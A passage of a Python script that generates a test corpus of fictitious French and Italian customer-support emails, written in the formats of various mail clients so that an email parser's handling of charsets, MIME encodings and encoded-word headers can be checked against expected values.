"""Write the inbound-email corpus: the NN-name.eml files and expected.json beside this script.

Every email is written here by hand, in the shape its client (Gmail, Outlook, Apple Mail,
Thunderbird, French and Italian webmails, phones, mail servers) gives it, with fictitious people
and addresses. Binary attachments are made from fixed seeds, so running the script again gives
the same bytes:

    .venv/bin/python tests/channels/corpus/make_corpus.py
    .venv/bin/python tests/channels/corpus/check_corpus.py

Each email is written with "\\n" line ends and stored with CRLF, unless it is one of the few
stored with LF (as Maildir servers do). Expected sizes of attachments are worked out from the
bytes put in, never from a parser; check_corpus.py then compares each email with its expectation.
"""

# ruff: noqa: E501, RUF001, RUF003, W291  (mail text: long lines, accents, significant trailing spaces)

from __future__ import annotations

import base64
import io
import json
import quopri
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent

BARE_LF = "\x00BARE-LF\x00"  # a lone LF inside a CRLF file

KEYS = (
    "message_id",
    "in_reply_to",
    "references",
    "from_address",
    "from_name",
    "to",
    "cc",
    "subject",
    "case_reference",
    "text_contains",
    "text_excludes",
    "attachments",
    "auto_reply",
    "bounce",
    "bounced_message_id",
    "language",
    "note",
)

CORPUS: list[tuple[str, bytes, dict]] = []


# --- building blocks -------------------------------------------------------------------------


def b64(data: bytes, width: int = 76) -> str:
    """Base64 in lines of `width` characters, as mail clients write it."""
    text = base64.b64encode(data).decode("ascii")
    return "\n".join(text[i : i + width] for i in range(0, len(text), width))


def qp(text: str, charset: str = "utf-8") -> str:
    """Quoted-printable of `text` in `charset`, soft-broken at 76 characters."""
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def ew_b(text: str, charset: str = "utf-8") -> str:
    """One RFC 2047 B encoded-word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode('ascii')}?="


def ew_q(text: str, charset: str = "utf-8") -> str:
    """One RFC 2047 Q encoded-word."""
    out = []
    for byte in text.encode(charset):
        char = chr(byte)
        if char == " ":
            out.append("_")
        elif char.isascii() and (char.isalnum() or char in "!*+-/"):
            out.append(char)
        else:
            out.append(f"={byte:02X}")
    return f"=?{charset}?Q?{''.join(out)}?="


def blob(seed: int, size: int, head: bytes = b"", tail: bytes = b"") -> bytes:
    """`size` deterministic bytes: `head`, pseudo-random bytes from `seed`, `tail`."""
    middle = random.Random(seed).randbytes(size - len(head) - len(tail))
    return head + middle + tail


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A real PNG image of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes(rgb) * width
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(row * height, 9))
        + chunk(b"IEND", b"")
    )


def jpeg(seed: int, size: int) -> bytes:
    """JPEG-looking bytes: a JFIF header, noise, an end-of-image marker."""
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00\xff\xdb"
    return blob(seed, size, head, b"\xff\xd9")


def pdf(seed: int, size: int, title: str = "Document") -> bytes:
    """PDF-looking bytes: a PDF header and first object, noise, an end-of-file marker."""
    head = (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Title ("
        + title.encode("latin-1", "replace")
        + b") >>\nendobj\n2 0 obj\n<< /Length 3 0 R /Filter /FlateDecode >>\nstream\n"
    )
    return blob(seed, size, head, b"\nendstream\nendobj\n%%EOF\n")


def docx(text: str) -> bytes:
    """A small Word document (a zip with fixed dates, stored, so its bytes never change)."""
    buffer = io.BytesIO()
    files = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>',
        "word/document.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
    }
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 9, 30, 0))
            archive.writestr(info, content.encode("utf-8"))
    return buffer.getvalue()


def att(filename, content_type, size, inline=False):
    return {"filename": filename, "content_type": content_type, "size": size, "inline": inline}


def textsize(text: str, charset: str = "utf-8", crlf: bool = True) -> int:
    """Byte length of a 7bit/8bit part body as stored (line ends included, last one excluded)."""
    data = text.encode(charset)
    return len(data.replace(b"\n", b"\r\n")) if crlf else len(data)


def add(name: str, pieces: list[str | bytes] | str, *, crlf: bool = True, **expected) -> None:
    """Store one email: `pieces` are str (UTF-8) or bytes, joined, then line ends set."""
    if isinstance(pieces, str):
        pieces = [pieces]
    raw = b"".join(p.encode("utf-8") if isinstance(p, str) else p for p in pieces)
    if crlf:
        raw = raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    raw = raw.replace(BARE_LF.encode(), b"\n")
    entry = {
        "message_id": None,
        "in_reply_to": None,
        "references": [],
        "from_name": "",
        "to": [],
        "cc": [],
        "case_reference": None,
        "text_excludes": [],
        "attachments": [],
        "auto_reply": False,
        "bounce": False,
        "bounced_message_id": None,
    }
    entry.update(expected)
    missing = [key for key in KEYS if key not in entry]
    extra = [key for key in entry if key not in KEYS]
    if missing or extra:
        raise SystemExit(f"{name}: missing {missing}, unknown {extra}")
    CORPUS.append((f"{len(CORPUS) + 1:02d}-{name}.eml", raw, {key: entry[key] for key in KEYS}))


def main() -> None:
    names = {name for name, _, _ in CORPUS}
    for stale in HERE.glob("*.eml"):
        if stale.name not in names:
            stale.unlink()
    expected = {}
    for name, raw, entry in CORPUS:
        (HERE / name).write_bytes(raw)
        expected[name] = entry
    text = json.dumps(expected, ensure_ascii=False, indent=2) + "\n"
    (HERE / "expected.json").write_text(text, encoding="utf-8")
    total = sum(len(raw) for _, raw, _ in CORPUS)
    sys.stdout.write(f"{len(CORPUS)} emails, {total} bytes\n")


RECEIVED_DESK = (
    "Received: from mx1.desk.example (mx1.desk.example [192.0.2.25])\n"
    "\tby imap.desk.example (Dovecot) with LMTP id kQ3nH9Q2Z2cA\n"
    "\tfor <{rcpt}>; {date}\n"
)


def received(rcpt: str, date: str) -> str:
    return RECEIVED_DESK.format(rcpt=rcpt, date=date)


# --- 01-12: clients, charsets, encoded-words ---------------------------------------------------

GMAIL_01_TEXT = """Bonjour,

Mon téléviseur Novalux 55" (modèle QN55-X2, acheté en mars) s'éteint tout seul
au bout de vingt minutes environ. L'écran devient noir, puis la diode clignote
trois fois.

J'ai déjà essayé de le débrancher pendant une heure, sans succès. Que dois-je
faire ? Il est toujours sous garantie.

Bien cordialement,
Céline Mercier
06 12 34 56 78
"""
GMAIL_01_HTML = """<div dir="ltr"><div>Bonjour,</div><div><br></div><div>Mon téléviseur Novalux 55&quot; (modèle QN55-X2, acheté en mars) s&#39;éteint tout seul au bout de vingt minutes environ. L&#39;écran devient noir, puis la diode clignote trois fois.</div><div><br></div><div>J&#39;ai déjà essayé de le débrancher pendant une heure, sans succès. Que dois-je faire ? Il est toujours sous garantie.</div><div><br></div><div>Bien cordialement,</div><div>Céline Mercier</div><div>06 12 34 56 78</div></div>
"""
add(
    "gmail-fr-alternative-utf8",
    f"""Delivered-To: sav@desk.example
{received("sav@desk.example", "Mon, 02 Nov 2026 09:02:13 +0100")}Received: from mail-wr1-f41.google.example (mail-wr1-f41.google.example [198.51.100.41])
\tby mx1.desk.example (Postfix) with ESMTPS id 4R8kT21Hx9z3q
\tfor <sav@desk.example>; Mon,  2 Nov 2026 09:02:12 +0100 (CET)
MIME-Version: 1.0
From: =?UTF-8?Q?C=C3=A9line_Mercier?= <celine.mercier@gmail.example>
Date: Mon, 2 Nov 2026 09:01:47 +0100
Message-ID: <CAJx7pQ3vR2mJ0sWnT8eK5yH1fG6dL4aB9cN2oP7qU3iZ0xV_wA@mail.gmail.example>
Subject: =?UTF-8?Q?T=C3=A9l=C3=A9viseur_qui_s=27=C3=A9teint_tout_seul?=
To: sav@desk.example
Content-Type: multipart/alternative; boundary="000000000000a1b2c3061f4e2d9b"

--000000000000a1b2c3061f4e2d9b
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_01_TEXT)}
--000000000000a1b2c3061f4e2d9b
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_01_HTML)}
--000000000000a1b2c3061f4e2d9b--
""",
    message_id="<CAJx7pQ3vR2mJ0sWnT8eK5yH1fG6dL4aB9cN2oP7qU3iZ0xV_wA@mail.gmail.example>",
    from_address="celine.mercier@gmail.example",
    from_name="Céline Mercier",
    to=["sav@desk.example"],
    subject="Téléviseur qui s'éteint tout seul",
    text_contains=["Mon téléviseur Novalux", "déjà essayé", "sous garantie"],
    text_excludes=["<div", "&#39;"],
    language="fr",
    note='Gmail web: multipart/alternative, UTF-8 quoted-printable plain and <div dir="ltr"> HTML, Q-encoded subject and display name.',
)

OUTLOOK_02_TEXT = """Bonjour,

Suite à mon appel de ce matin, je vous confirme que la machine à café « Barista Pro » ne chauffe plus : le voyant reste orange et l’eau sort froide.
Je l’ai payée 149,99 € il y a huit mois ; j’ai à cœur de la faire réparer plutôt que de la jeter.

Pouvez-vous m’indiquer la marche à suivre ?

Cordialement,

Benoît Lefèvre
Responsable des achats – Lefèvre & Fils
"""
OUTLOOK_02_HTML = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face
	{font-family:"Cambria Math";
	panose-1:2 4 5 3 5 4 6 3 2 4;}
@font-face
	{font-family:Aptos;}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0cm;
	font-size:12.0pt;
	font-family:"Aptos",sans-serif;
	mso-ligatures:standardcontextual;
	mso-fareast-language:EN-US;}
span.EmailStyle17
	{mso-style-type:personal-compose;
	font-family:"Aptos",sans-serif;
	color:windowtext;}
.MsoChpDefault
	{mso-style-type:export-only;
	font-size:11.0pt;}
@page WordSection1
	{size:612.0pt 792.0pt;
	margin:70.85pt 70.85pt 70.85pt 70.85pt;}
div.WordSection1
	{page:WordSection1;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--><!--[if gte mso 9]><xml>
<o:shapelayout v:ext="edit">
<o:idmap v:ext="edit" data="1" />
</o:shapelayout></xml><![endif]-->
</head>
<body lang="FR" link="#467886" vlink="#96607D" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Bonjour,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Suite à mon appel de ce matin, je vous confirme que la machine à café «&nbsp;Barista Pro&nbsp;» ne chauffe plus&nbsp;: le voyant reste orange et l’eau sort froide.<o:p></o:p></p>
<p class="MsoNormal">Je l’ai payée 149,99&nbsp;€ il y a huit mois&nbsp;; j’ai à cœur de la faire réparer plutôt que de la jeter.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Pouvez-vous m’indiquer la marche à suivre&nbsp;?<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Cordialement,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal"><b>Benoît Lefèvre</b><o:p></o:p></p>
<p class="MsoNormal">Responsable des achats – Lefèvre &amp; Fils<o:p></o:p></p>
</div>
</body>
</html>
"""
add(
    "outlook-fr-windows1252-qp",
    f"""Received: from PAXPR07MB8123.eurprd07.prod.outlook.example (2603:10a6:102:1b2::14)
 by PAXPR07MB8124.eurprd07.prod.outlook.example with HTTPS; Mon, 2 Nov 2026
 08:47:31 +0000
From: =?windows-1252?Q?Beno=EEt_Lef=E8vre?= <b.lefevre@lefevre-fils.example>
To: "sav@desk.example" <sav@desk.example>
Subject: =?windows-1252?Q?Machine_=E0_caf=E9_=AB_Barista_Pro_=BB_en_panne?=
Thread-Topic: =?windows-1252?Q?Machine_=E0_caf=E9_=AB_Barista_Pro_=BB_en_panne?=
Thread-Index: AdtMx2Rk7Vq1nE3bR0y4XwQeJ5a8Tg==
Date: Mon, 2 Nov 2026 08:47:30 +0000
Message-ID: <PAXPR07MB81230A1B2C3D4E5F60718293A4B5@PAXPR07MB8123.eurprd07.prod.outlook.example>
Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels:
X-MS-Exchange-Organization-SCL: 1
Content-Type: multipart/alternative;
\tboundary="_000_PAXPR07MB81230A1B2C3D4E5F60718293A4B5PAXPR07MB8123eurp_"
MIME-Version: 1.0

--_000_PAXPR07MB81230A1B2C3D4E5F60718293A4B5PAXPR07MB8123eurp_
Content-Type: text/plain; charset="windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(OUTLOOK_02_TEXT, "windows-1252")}
--_000_PAXPR07MB81230A1B2C3D4E5F60718293A4B5PAXPR07MB8123eurp_
Content-Type: text/html; charset="windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(OUTLOOK_02_HTML, "windows-1252")}
--_000_PAXPR07MB81230A1B2C3D4E5F60718293A4B5PAXPR07MB8123eurp_--
""",
    message_id="<PAXPR07MB81230A1B2C3D4E5F60718293A4B5@PAXPR07MB8123.eurprd07.prod.outlook.example>",
    from_address="b.lefevre@lefevre-fils.example",
    from_name="Benoît Lefèvre",
    to=["sav@desk.example"],
    subject="Machine à café « Barista Pro » en panne",
    text_contains=["149,99 €", "j’ai à cœur", "l’eau sort froide"],
    text_excludes=["MsoNormal"],
    language="fr",
    note="Outlook desktop: windows-1252 quoted-printable (€, œ, curly quotes, guillemets), Thread-Index, X-MS-Has-Attach, Content-Language, MsoNormal HTML.",
)

TB_03_TEXT = """Bonjour,

J'ai reçu hier le casque Novalux H7 commandé sur votre boutique (commande
FR-2026-118843), mais l'oreillette gauche grésille dès qu'on monte le son.
Le colis indiquait un prix de 89 € ; sur la facture il est écrit 99 €.
Pouvez-vous corriger l'écart et m'envoyer une étiquette de retour ?

Merci d'avance, et bonne journée à l'équipe.

-- 
Œdipe Garnier
12, rue des Lilas, 69003 Lyon
"""
add(
    "thunderbird-fr-iso8859-15-8bit",
    [
        f"""Return-Path: <oedipe.garnier@free.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Tue, 03 Nov 2026 18:20:44 +0100")}Message-ID: <8d3f0a5c-2b1e-4c7d-9f60-1a2b3c4d5e6f@free.example>
Date: Tue, 3 Nov 2026 18:20:41 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: sav@desk.example
From: =?UTF-8?Q?=C5=92dipe_Garnier?= <oedipe.garnier@free.example>
Subject: =?ISO-8859-15?Q?Casque_H7_:_gr=E9sillement_et_=E9cart_de_prix_(89_=A4_/?=
 =?ISO-8859-15?Q?_99_=A4)?=
Content-Type: text/plain; charset=ISO-8859-15; format=flowed
Content-Transfer-Encoding: 8bit

""",
        TB_03_TEXT.encode("iso-8859-15"),
    ],
    crlf=False,
    message_id="<8d3f0a5c-2b1e-4c7d-9f60-1a2b3c4d5e6f@free.example>",
    from_address="oedipe.garnier@free.example",
    from_name="Œdipe Garnier",
    to=["sav@desk.example"],
    subject="Casque H7 : grésillement et écart de prix (89 € / 99 €)",
    text_contains=["l'oreillette gauche grésille", "prix de 89 €", "Œdipe Garnier"],
    language="fr",
    note="Thunderbird, stored with LF: ISO-8859-15 8bit body (€ is 0xA4, Œ is 0xBC), format=flowed, subject Q-encoded in two ISO-8859-15 words.",
)

VIRGILIO_04_TEXT = """Buongiorno,

la lavatrice Novalux WM-8 che ho comprato a settembre perde acqua dal cassetto
del detersivo. Ho già pulito il filtro ma il problema è sempre lì.
Potete mandare un tecnico? Sono a casa il lunedì e il giovedì, dalle 9 alle 13.

Grazie mille e cordiali saluti,
Niccolò Esposito
Via Garibaldi 14, 80138 Napoli
"""
add(
    "virgilio-it-iso8859-1-8bit",
    [
        f"""Return-Path: <niccolo.esposito@virgilio.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Tue, 03 Nov 2026 10:15:09 +0100")}Date: Tue, 3 Nov 2026 10:15:02 +0100 (CET)
From: =?ISO-8859-1?Q?Niccol=F2_Esposito?= <niccolo.esposito@virgilio.example>
To: assistenza@desk.example
Message-ID: <1203518871.4471902.1793698502118@webmail.virgilio.example>
Subject: =?ISO-8859-1?Q?Lavatrice_WM-8_perde_acqua_-_richiesta_di_intervento?=
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: 8bit
X-Priority: 3
Importance: Normal
X-Mailer: Open-Xchange Mailer v7.10.6-Rev44
X-Originating-Client: open-xchange-appsuite

""",
        VIRGILIO_04_TEXT.encode("iso-8859-1"),
    ],
    message_id="<1203518871.4471902.1793698502118@webmail.virgilio.example>",
    from_address="niccolo.esposito@virgilio.example",
    from_name="Niccolò Esposito",
    to=["assistenza@desk.example"],
    subject="Lavatrice WM-8 perde acqua - richiesta di intervento",
    text_contains=["Ho già pulito il filtro", "il problema è sempre lì", "Niccolò"],
    language="it",
    note="Virgilio (Open-Xchange) webmail: ISO-8859-1 8bit Italian body with accented vowels, Q-encoded ISO-8859-1 subject and name.",
)

WLM_05_TEXT = """Salve,

ho acquistato l\u2019aspirapolvere Novalux V12 a 189 \u20ac ma dopo due settimane la
batteria non si carica più. Sul vostro sito c\u2019è scritto \u201cgaranzia 24 mesi\u201d,
quindi vorrei sapere come procedere per la sostituzione.

Distinti saluti
Gianni Ferraro
"""
add(
    "windowslivemail-it-latin1-mislabelled",
    f"""Return-Path: <gianni.ferraro@alice.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Wed, 04 Nov 2026 21:03:57 +0100")}Message-ID: <A3C1F0E2B4D94F6A8E7D@PCGIANNI>
From: "Gianni Ferraro" <gianni.ferraro@alice.example>
To: <assistenza@desk.example>
Subject: batteria aspirapolvere V12
Date: Wed, 4 Nov 2026 21:03:51 +0100
MIME-Version: 1.0
Content-Type: text/plain;
\tformat=flowed;
\tcharset="iso-8859-1";
\treply-type=original
Content-Transfer-Encoding: quoted-printable
X-Priority: 3
X-MSMail-Priority: Normal
Importance: Normal
X-Mailer: Microsoft Windows Live Mail 16.4.3528.331
X-MimeOLE: Produced By Microsoft MimeOLE V16.4.3528.331

{qp(WLM_05_TEXT, "windows-1252")}""",
    message_id="<A3C1F0E2B4D94F6A8E7D@PCGIANNI>",
    from_address="gianni.ferraro@alice.example",
    from_name="Gianni Ferraro",
    to=["assistenza@desk.example"],
    subject="batteria aspirapolvere V12",
    text_contains=[
        "l’aspirapolvere Novalux V12 a 189 €",
        "“garanzia 24 mesi”",
        "non si carica più",
    ],
    language="it",
    note="Windows Live Mail labels windows-1252 bytes (=80 for €, =92/=93/=94 for curly quotes) as iso-8859-1; readers must decode iso-8859-1 as windows-1252, as browsers do.",
)

IPHONE_06_TEXT = """Buonasera, vi scrivo perché il mio ordine IT-77120 risulta consegnato ma non è mai arrivato. Il corriere dice di averlo lasciato al portiere, però il palazzo non ha un portiere.
Potete aprire una verifica?

Grazie
Chiara

Inviato da iPhone"""
add(
    "iphone-it-plain-qp",
    f"""Return-Path: <chiara.romano@icloud.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Wed, 04 Nov 2026 19:42:10 +0100")}Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
From: Chiara Romano <chiara.romano@icloud.example>
Mime-Version: 1.0 (1.0)
Date: Wed, 4 Nov 2026 19:42:06 +0100
Subject: =?utf-8?Q?Ordine_IT-77120_mai_arrivato_=F0=9F=98=9F?=
Message-Id: <4E2B7C91-0D3A-4F55-8A6E-9C1B2D3E4F50@icloud.example>
To: assistenza@desk.example
X-Mailer: iPhone Mail (22A3354)

{qp(IPHONE_06_TEXT)}""",
    message_id="<4E2B7C91-0D3A-4F55-8A6E-9C1B2D3E4F50@icloud.example>",
    from_address="chiara.romano@icloud.example",
    from_name="Chiara Romano",
    to=["assistenza@desk.example"],
    subject="Ordine IT-77120 mai arrivato 😟",
    text_contains=["perché il mio ordine IT-77120", "non è mai arrivato", "Inviato da iPhone"],
    language="it",
    note="iPhone Mail: text/plain UTF-8 quoted-printable, Mime-Version 1.0 (1.0), emoji (4-byte UTF-8) in a Q-encoded subject, 'Inviato da iPhone'.",
)

SAMSUNG_07_TEXT = """Bonjour, je n'arrive pas à appairer mes écouteurs Novalux Buds avec mon téléphone depuis la mise à jour d'hier. Ils apparaissent dans la liste Bluetooth mais la connexion échoue à chaque fois. Que faire ?
Merci
Hélène



Envoyé depuis mon appareil Galaxy
"""
SAMSUNG_07_HTML = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body dir="auto"><div dir="auto">Bonjour, je n'arrive pas à appairer mes écouteurs Novalux Buds avec mon téléphone depuis la mise à jour d'hier. Ils apparaissent dans la liste Bluetooth mais la connexion échoue à chaque fois. Que faire ?</div><div dir="auto">Merci</div><div dir="auto">Hélène</div><div dir="auto"><br></div><div dir="auto"><br></div><div dir="auto"><br></div><div id="composer_signature" dir="auto"><div style="font-size:85%;color:#575757" dir="auto">Envoyé depuis mon appareil Galaxy</div></div></body></html>"""
add(
    "samsung-fr-base64",
    f"""Return-Path: <helene.martin@sfr.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Thu, 05 Nov 2026 07:55:31 +0100")}Message-ID: <20261105065527.9a8b7c6d5e4f@email.android.example>
Date: Thu, 05 Nov 2026 07:55:27 +0100
X-Mailer: Samsung Mail
MIME-Version: 1.0
Subject: =?UTF-8?B?w4ljb3V0ZXVycyBCdWRzIDogYXBwYWlyYWdlIGltcG9zc2libGU=?=
From: =?UTF-8?B?SMOpbMOobmUgTWFydGlu?= <helene.martin@sfr.example>
To: sav@desk.example
Content-Type: multipart/alternative; boundary="--_com.samsung.android.email_1793858127364850"

----_com.samsung.android.email_1793858127364850
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64(SAMSUNG_07_TEXT.encode())}

----_com.samsung.android.email_1793858127364850
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{b64(SAMSUNG_07_HTML.encode())}

----_com.samsung.android.email_1793858127364850--
""",
    message_id="<20261105065527.9a8b7c6d5e4f@email.android.example>",
    from_address="helene.martin@sfr.example",
    from_name="Hélène Martin",
    to=["sav@desk.example"],
    subject="Écouteurs Buds : appairage impossible",
    text_contains=[
        "appairer mes écouteurs",
        "la connexion échoue",
        "Envoyé depuis mon appareil Galaxy",
    ],
    language="fr",
    note="Samsung Email on Android: base64 UTF-8 plain and HTML, a boundary starting with '--', B-encoded subject and display name.",
)

ORANGE_08_TEXT = """Madame, Monsieur,

Je me permets de vous relancer au sujet de mon réfrigérateur combiné RF-300,
en panne depuis le 12 octobre. Le technicien devait passer le 28 octobre et
personne n'est venu. Toute la nourriture du congélateur a été perdue.

Je souhaite être rappelée rapidement au 02 98 76 54 32.

Françoise Le Guénnec
"""
add(
    "orange-fr-folded-b-subject",
    f"""Return-Path: <f.leguennec@orange.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Thu, 05 Nov 2026 11:31:20 +0100")}Date: Thu, 5 Nov 2026 11:31:14 +0100 (CET)
From: =?UTF-8?B?RnJhbsOnb2lzZSBMZSBHdcOpbm5lYw==?=
 <f.leguennec@orange.example>
Reply-To: =?UTF-8?B?RnJhbsOnb2lzZSBMZSBHdcOpbm5lYw==?=
 <f.leguennec@orange.example>
To: sav@desk.example
Message-ID: <1473390255.118272.1793961074901.JavaMail.open-xchange@opme11oxm23aub.bagnolet.orange.example>
Subject: =?UTF-8?B?UmVsYW5jZSA6IHLDqWZyaWfDqXJhdGV1ciBSRi0zMDAgZW4gcGFubmUg?=
 =?UTF-8?B?ZGVwdWlzIGxlIDEyIG9jdG9icmUsIHRlY2huaWNpZW4gamFtYWlzIHZl?=
 =?UTF-8?B?bnU=?=
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
X-Priority: 3
Importance: Normal
X-Mailer: Open-Xchange Mailer v7.10.6-Rev62
X-Originating-Client: open-xchange-appsuite
X-Originating-IP: 203.0.113.77
X-WUM-FROM: |~|
X-WUM-TO: |~|
X-WUM-CATEGORY: test
X-WUM-REPLYTO: |~|

{qp(ORANGE_08_TEXT)}""",
    message_id="<1473390255.118272.1793961074901.JavaMail.open-xchange@opme11oxm23aub.bagnolet.orange.example>",
    from_address="f.leguennec@orange.example",
    from_name="Françoise Le Guénnec",
    to=["sav@desk.example"],
    subject="Relance : réfrigérateur RF-300 en panne depuis le 12 octobre, technicien jamais venu",
    text_contains=["mon réfrigérateur combiné RF-300", "être rappelée"],
    language="fr",
    note="Orange webmail (Open-Xchange): a long subject in three folded UTF-8 B encoded-words that must join without spaces, display name folded onto its own line.",
)

ZIMBRA_09_TEXT = """Bonjour,

Je vous joins ci-dessous le numéro de série de mon four : NX-OV-204511.
La porte ne ferme plus correctement depuis que la charnière s'est tordue.

Est-ce que la pièce détachée est disponible ?

Merci,
Gaëlle
"""
ZIMBRA_09_HTML = """<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000"><div>Bonjour,</div><div><br data-mce-bogus="1"></div><div>Je vous joins ci-dessous le numéro de série de mon four : NX-OV-204511.</div><div>La porte ne ferme plus correctement depuis que la charnière s'est tordue.</div><div><br data-mce-bogus="1"></div><div>Est-ce que la pièce détachée est disponible ?</div><div><br data-mce-bogus="1"></div><div>Merci,</div><div>Gaëlle</div></div></body></html>"""
add(
    "free-zimbra-fr-mixed-charset-subject",
    f"""Return-Path: <gaelle.roux@free.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Thu, 05 Nov 2026 14:12:40 +0100")}Date: Thu, 5 Nov 2026 14:12:37 +0100 (CET)
From: =?utf-8?Q?Ga=C3=ABlle?= Roux <gaelle.roux@free.example>
To: sav <sav@desk.example>
Message-ID: <1930455188.93012744.1793970757311.JavaMail.root@zimbra63-e11.priv.proxad.example>
Subject: =?utf-8?Q?Pi=C3=A8ce_d=C3=A9tach=C3=A9e?= pour four -
 =?iso-8859-1?Q?charni=E8re_tordue?=
MIME-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="=_4f1d7a0b-33c2-47e5-8d71-1b0c59a2e6d4"
X-Originating-IP: [203.0.113.12]
X-Mailer: Zimbra 8.8.15_GA_4581 (ZimbraWebClient - FF132 (Linux)/8.8.15_GA_4581)
Thread-Index: V2HhNbGZ1bLeU4jgGNk3eqTydy0fRQ==
Thread-Topic: =?utf-8?Q?Pi=C3=A8ce_d=C3=A9tach=C3=A9e?= pour four -
 =?iso-8859-1?Q?charni=E8re_tordue?=

--=_4f1d7a0b-33c2-47e5-8d71-1b0c59a2e6d4
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(ZIMBRA_09_TEXT)}
--=_4f1d7a0b-33c2-47e5-8d71-1b0c59a2e6d4
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(ZIMBRA_09_HTML)}
--=_4f1d7a0b-33c2-47e5-8d71-1b0c59a2e6d4--
""",
    message_id="<1930455188.93012744.1793970757311.JavaMail.root@zimbra63-e11.priv.proxad.example>",
    from_address="gaelle.roux@free.example",
    from_name="Gaëlle Roux",
    to=["sav@desk.example"],
    subject="Pièce détachée pour four - charnière tordue",
    text_contains=["numéro de série de mon four", "la charnière s'est tordue"],
    language="fr",
    note="Free.fr webmail (Zimbra): a subject mixing a UTF-8 encoded-word, plain words and an ISO-8859-1 encoded-word over two lines; display name half encoded.",
)

_SPLIT = "Problème de facturation – prélèvement effectué deux fois".encode()
_CUT1 = _SPLIT.index("è".encode()) + 1  # inside the two bytes of "è"
_CUT2 = _SPLIT.index("–".encode()) + 2  # inside the three bytes of "–"
_W = [_SPLIT[:_CUT1], _SPLIT[_CUT1:_CUT2], _SPLIT[_CUT2:]]
SFR_10_TEXT = """Bonjour,

Sur mon relevé bancaire, l'abonnement « Novalux Care » de novembre a été
prélevé deux fois (2 × 4,99 €). Merci de rembourser le prélèvement en double.

Cordialement,
Jérôme Blanc
"""
add(
    "sfr-fr-split-encoded-word",
    f"""Return-Path: <jerome.blanc@sfr.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Fri, 06 Nov 2026 08:05:02 +0100")}X-Mailer: SFR Mail
Date: Fri, 6 Nov 2026 08:04:58 +0100 (CET)
From: =?UTF-8?B?SsOpcsO0bWUgQmxhbmM=?= <jerome.blanc@sfr.example>
To: sav@desk.example
Message-ID: <179405069812.66310.4471@wsfrf1103.sfr.example>
Subject: =?UTF-8?B?{base64.b64encode(_W[0]).decode()}?=
